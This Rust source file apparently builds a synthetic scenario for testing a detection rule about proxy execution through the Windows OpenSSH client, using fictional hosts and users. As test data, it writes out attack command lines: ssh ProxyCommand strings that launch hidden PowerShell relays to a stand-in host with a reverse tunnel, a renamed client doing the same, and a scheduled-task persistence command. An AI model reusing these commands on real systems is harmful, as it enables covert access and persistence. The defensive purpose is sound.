//! Proxy execution through the Windows OpenSSH client: the attack that the shipped rule is about, and who looks like it.
//!
//! One morning at Kestrel, a company that does not exist. An intruder with the password of an administrator comes into
//! a file server over PowerShell remoting and lets `ssh.exe` run PowerShell for him. Meanwhile an administrator goes
//! through a bastion, a build agent copies files, and somebody runs a client under another name.

mod cast;

use std::rc::Rc;

use super::model::Investigation::{AlertsOfUser, AlertsOnHost, Children, Logons, Network};
use super::model::{Host, Logon, LogonKind, Process, Scenario};
use super::story::{Story, call};
use cast::*;

/// The scenario.
pub fn proxy_execution_via_openssh() -> Scenario {
    let mut story = Story::of("2026-11-12");
    an_intruder_comes_to_the_file_server(&mut story);
    another_server_has_the_same_numbers(&mut story);
    an_administrator_uses_the_bastion(&mut story);
    the_build_agent_copies_files(&mut story);
    somebody_runs_a_renamed_client(&mut story);
    other_rules_had_seen_something(&mut story);
    story.finish()
}

fn an_intruder_comes_to_the_file_server(story: &mut Story) {
    let (_services, dcom) = a_server_boots(story, &SRV_FIN_02, ["05:58:01.204", "05:58:03.871"]);

    // An hour of ordinary life. The backup's copy happens to have the process id that ssh.exe will have later.
    let robocopy = story.starts(
        "09:12:05.330",
        &dcom,
        call(6332, ROBOCOPY, r"robocopy.exe D:\ledger N:\ledger /MIR /R:1"),
    );
    story.connects("09:12:05.918", &robocopy, 50_112, (SRV_NAS_01.address, 445));
    story.starts("09:12:06.102", &robocopy, call(3388, CONHOST, r"\??\C:\Windows\system32\conhost.exe 0x4"));
    story.ends("09:13:44.760", &robocopy);

    // With the administrator's password, from a workstation that was taken before.
    let from_ana = LogonKind::Network { from: WS_ANA_07.address, port: 50_388 };
    let stolen = story.logs_on("09:44:31.118", 0x8f3_a21d, &SRV_FIN_02, &ADM_LIND, from_ana);
    story.answers(Logons);
    let remoting = story.starts_in(
        "09:44:33.402",
        &dcom,
        call(5104, WSMPROVHOST, r"C:\Windows\system32\wsmprovhost.exe -Embedding"),
        &stolen,
    );

    // The client runs PowerShell, which is the point, and becomes a way in for the server at the other end.
    let ssh = story.starts("09:46:12.067", &remoting, call(6332, SSH, TUNNEL));
    story.guilty();
    let powershell = story.starts("09:46:12.291", &ssh, call(7016, POWERSHELL, RELAY));
    story.answers(Children);
    story.looks_up("09:46:12.388", &ssh, "edge.cargo-manifest.example", "203.0.113.77");
    story.answers(Network);
    story.connects("09:46:14.940", &ssh, 50_391, ("127.0.0.1", 5985));
    story.answers(Network);
    story.connects("09:46:19.505", &ssh, 50_402, ("203.0.113.77", 443));
    story.answers(Network);

    // What the intruder came for: a program that stays.
    story.writes("09:46:25.733", &powershell, HELPER.path, 481_280);
    story.hands_over_credentials("09:46:27.410", &powershell, &SVC_BACKUP, &SRV_NAS_01);
    story.answers(Logons);
    let schtasks = story.starts("09:46:31.244", &powershell, call(7244, SCHTASKS, REGISTER));
    story.registers_task("09:46:31.702", &schtasks, r"\Kestrel\Ledger sync", HELPER.path);
    story.ends("09:46:31.930", &schtasks);
    let helper = story.starts(
        "09:47:02.156",
        &powershell,
        call(4460, HELPER, r"C:\ProgramData\Kestrel\ledgersync.exe --once"),
    );
    story.connects("09:47:03.018", &helper, 50_410, ("198.51.100.23", 8443));
    story.ends("09:47:40.880", &powershell);
    story.ends("09:47:41.006", &ssh);

    // The process id is used again at once.
    let backup = story.starts(
        "09:52:17.640",
        &dcom,
        call(6332, BACKUP_AGENT, r#""C:\Program Files\Backup\agent.exe" run"#),
    );
    story.connects("09:52:18.211", &backup, 50_433, ("198.51.100.40", 443));
    story.starts("09:52:19.007", &backup, call(6560, VSSADMIN, "vssadmin.exe list writers"));
}

/// The same numbers at the same time: process ids, and even the logon's.
fn another_server_has_the_same_numbers(story: &mut Story) {
    let (_, dcom) = a_server_boots(story, &SRV_FIN_01, ["05:59:12.318", "05:59:14.666"]);
    let from_ops = LogonKind::Network { from: WS_OPS_02.address, port: 51_077 };
    let own = story.logs_on("09:43:50.512", 0x8f3_a21d, &SRV_FIN_01, &ADM_LIND, from_ops);
    let remoting = story.starts_in(
        "09:43:52.093",
        &dcom,
        call(5104, WSMPROVHOST, r"C:\Windows\system32\wsmprovhost.exe -Embedding"),
        &own,
    );
    let ssh = story.starts("09:46:10.815", &remoting, call(6332, SSH, "ssh.exe -T deploy@192.0.2.51 uptime"));
    story.connects("09:46:11.264", &ssh, 49_920, (BLD_AGENT_01.address, 22));
    let child =
        story.starts("09:46:12.529", &ssh, call(7016, CONHOST, r"\??\C:\Windows\system32\conhost.exe 0x4"));
    story.ends("09:46:13.377", &ssh);
    story.ends("09:46:13.391", &child);
    story.hands_over_credentials("09:46:40.005", &remoting, &SVC_BACKUP, &SRV_NAS_01);
}

/// `ProxyCommand` as it is meant: another ssh that goes through the bastion.
fn an_administrator_uses_the_bastion(story: &mut Story) {
    let desk = story.logs_on("07:31:20.447", 0x4_1c9e, &WS_OPS_02, &ADM_LIND, LogonKind::Interactive);
    let explorer = a_desktop_appears(story, &desk, 4180, "07:31:22.901");
    let shell =
        story.starts("08:02:11.350", &explorer, call(9012, POWERSHELL, r#""powershell.exe" -NoLogo"#));
    let ssh = story.starts(
        "08:02:40.018",
        &shell,
        call(
            9240,
            SSH,
            r#"ssh.exe -o ProxyCommand="ssh.exe -W %h:%p adm.lind@bastion.kestrel.example" adm.lind@192.0.2.61"#,
        ),
    );
    let hop = story.starts(
        "08:02:40.204",
        &ssh,
        call(9256, SSH, "ssh.exe -W 192.0.2.61:22 adm.lind@bastion.kestrel.example"),
    );
    story.looks_up("08:02:40.377", &hop, "bastion.kestrel.example", "192.0.2.10");
    story.connects("08:02:40.522", &hop, 51_904, ("192.0.2.10", 22));
    story.ends("08:20:05.610", &hop);
    story.ends("08:20:05.633", &ssh);
}

/// A job that runs every night, and again whenever somebody asks for it.
fn the_build_agent_copies_files(story: &mut Story) {
    let (services, _) = a_server_boots(story, &BLD_AGENT_01, ["05:30:00.771", "05:30:02.940"]);
    let service = story.logs_on("05:30:09.126", 0x9_3ab1, &BLD_AGENT_01, &SVC_DEPLOY, LogonKind::Service);
    let agent = story.starts_in(
        "05:30:09.385",
        &services,
        call(2096, BUILD_AGENT, r"D:\agent\bin\build-agent.exe run --pool nightly"),
        &service,
    );
    let sftp = story.starts(
        "06:00:04.811",
        &agent,
        call(
            3312,
            SFTP,
            r"sftp.exe -b D:\agent\jobs\publish.sftp -i D:\agent\keys\deploy publish@198.51.100.80",
        ),
    );
    let ssh = story.starts(
        "06:00:04.930",
        &sftp,
        call(
            3340,
            SSH,
            r#""C:\Windows\System32\OpenSSH\ssh.exe" "-oForwardX11 no" "-oPermitLocalCommand no" -l publish -s -- 198.51.100.80 sftp"#,
        ),
    );
    story.connects("06:00:05.120", &ssh, 49_811, ("198.51.100.80", 22));
    story.ends("06:00:19.402", &ssh);
    story.ends("06:00:19.455", &sftp);
}

/// The attack once more, out of sight: the rule looks at the file's name.
fn somebody_runs_a_renamed_client(story: &mut Story) {
    let desk = story.logs_on("07:58:12.331", 0x5a_1f3c, &WS_ANA_07, &ANA_RUIZ, LogonKind::Interactive);
    let explorer = a_desktop_appears(story, &desk, 4512, "07:58:14.086");
    story.writes("08:11:02.718", &explorer, RENAMED_SSH.path, 1_178_624);
    let renamed = story.starts(
        "08:11:30.205",
        &explorer,
        call(
            7340,
            RENAMED_SSH,
            r#"upd.exe -o ProxyCommand="powershell -nop -w hidden -File C:\Users\Public\t.ps1" x"#,
        ),
    );
    let powershell = story.starts(
        "08:11:30.460",
        &renamed,
        call(7388, POWERSHELL, r"powershell -nop -w hidden -File C:\Users\Public\t.ps1"),
    );
    story.looks_up("08:11:31.090", &powershell, "files.cargo-manifest.example", "203.0.113.78");
    story.connects("08:11:31.203", &powershell, 50_344, ("203.0.113.78", 443));
    story.ends("08:12:02.940", &powershell);
    story.ends("08:12:02.981", &renamed);
}

/// What was in the alerts' index when the rule raised its alert.
fn other_rules_had_seen_something(story: &mut Story) {
    let (both, host, user) = ([AlertsOfUser, AlertsOnHost], [AlertsOnHost], [AlertsOfUser]);
    let tasks = r#"schtasks.exe /query /tn "\Kestrel\Ledger sync""#;
    let mut alert = |at, rule, on, of, command, answers: &[_]| {
        story.earlier_alert(at, rule, on, of, command, answers);
    };
    alert("2026-11-09 09:40:00.120", "Remote Scheduled Task Query", &SRV_FIN_02, &ADM_LIND, tasks, &[]);
    alert(
        "2026-11-11 22:14:05.330",
        "Volume Shadow Copy Listed",
        &SRV_FIN_02,
        &SVC_BACKUP,
        "vssadmin.exe list shadows",
        &host,
    );
    alert("08:11:35.700", "Unusual Process in Public Folder", &WS_ANA_07, &ANA_RUIZ, "upd.exe", &[]);
    alert(
        "09:41:07.402",
        "Credentials Used From Unusual Host",
        &WS_ANA_07,
        &ADM_LIND,
        "runas.exe /netonly",
        &user,
    );
    alert(
        "09:45:02.015",
        "First Remoting of User to Host",
        &SRV_FIN_02,
        &ADM_LIND,
        "wsmprovhost.exe -Embedding",
        &both,
    );
}

/// Services and the host of DCOM servers. What starts the former is there before anybody records anything.
fn a_server_boots(
    story: &mut Story,
    host: &'static Host,
    [services_at, dcom_at]: [&str; 2],
) -> (Rc<Process>, Rc<Process>) {
    let system = story.logged_on(0x3e7, host, &SYSTEM, LogonKind::Service);
    let wininit = story.running("05:20:00.500", call(604, WININIT, "wininit.exe"), &system);
    let services =
        story.starts(services_at, &wininit, call(712, SERVICES, r"C:\Windows\system32\services.exe"));
    let dcom = story.starts(
        dcom_at,
        &services,
        call(884, SVCHOST, r"C:\Windows\system32\svchost.exe -k DcomLaunch -p"),
    );
    (services, dcom)
}

/// A desktop, whose starter is gone at once.
fn a_desktop_appears(story: &mut Story, logon: &Rc<Logon>, pid: u32, at: &str) -> Rc<Process> {
    let userinfo = story.running("05:25:00.250", call(4020, USERINIT, "userinit.exe"), logon);
    story.starts(at, &userinfo, call(pid, EXPLORER, r"C:\Windows\Explorer.EXE"))
}

const TUNNEL: &str = r#"ssh.exe -N -R 1080 -o CanonicalizeHostname=always -o ProxyCommand="powershell.exe -NoProfile -WindowStyle Hidden -File C:\Users\Public\relay.ps1 %h %p" relay@edge.cargo-manifest.example"#;
const RELAY: &str = r"powershell.exe -NoProfile -WindowStyle Hidden -File C:\Users\Public\relay.ps1 edge.cargo-manifest.example 22";
const REGISTER: &str = r#"schtasks.exe /create /tn "\Kestrel\Ledger sync" /tr C:\ProgramData\Kestrel\ledgersync.exe /sc onlogon /f"#;
